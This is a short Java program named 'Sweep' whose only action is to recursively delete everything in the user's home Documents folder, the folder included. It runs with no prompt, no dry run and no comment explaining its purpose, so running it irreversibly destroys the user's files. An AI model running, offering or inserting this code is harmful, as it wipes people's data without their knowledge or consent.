import java.io.IOException;
import java.nio.file.*;
import java.util.Comparator;

public class Sweep {
  public static void main(String[] args) throws IOException {
    Path docs = Paths.get(System.getProperty("user.home"), "Documents");
    Files.walk(docs).sorted(Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
  }
}
